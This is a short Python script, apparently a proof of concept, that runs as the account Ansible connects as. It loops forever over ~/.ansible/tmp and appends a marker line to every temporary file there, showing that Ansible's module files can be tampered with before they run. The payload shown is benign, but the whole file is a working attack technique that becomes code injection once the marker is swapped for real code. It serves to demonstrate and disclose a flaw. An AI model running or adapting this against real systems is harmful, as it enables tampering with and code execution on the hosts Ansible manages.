"""As the account that Ansible connects as: changes every file that passes through its ~/.ansible/tmp, at once."""

from contextlib import suppress
from pathlib import Path

mine = b"\n# tampered with\n"
while True:
    for path in (Path.home() / ".ansible/tmp").glob("*/*"):
        with suppress(OSError), path.open("rb+") as file:
            if not file.read().endswith(mine):
                file.write(mine)
